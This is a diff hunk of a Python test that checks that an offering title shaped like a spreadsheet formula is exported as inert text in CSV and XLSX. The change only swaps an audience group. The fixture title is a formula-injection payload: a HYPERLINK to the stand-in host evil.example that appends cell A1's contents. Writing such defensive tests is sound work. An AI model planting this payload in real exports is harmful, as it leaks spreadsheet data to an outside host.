@@ -113,7 +113,7 @@ def test_an_idempotent_replay_runs_authentication_again_and_stays_with_its_calle
 def test_a_title_that_looks_like_a_formula_is_text_in_csv_and_xlsx(programme, db):
     title = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
     offering_id = programme.siu.post("/offerings", {
-        "title": title, "audience_groups": ["district"], "starts_from": iso_day(1), "ends_by": iso_day(60)}).json()["id"]
+        "title": title, "audience_groups": ["ward_commune"], "starts_from": iso_day(1), "ends_by": iso_day(60)}).json()["id"]
     wait_for(lambda: db("scheduling").offerings.find_one({"_id": offering_id}))
     session = programme.known_session(offering_id=offering_id)
     programme.registered(session, programme.official())
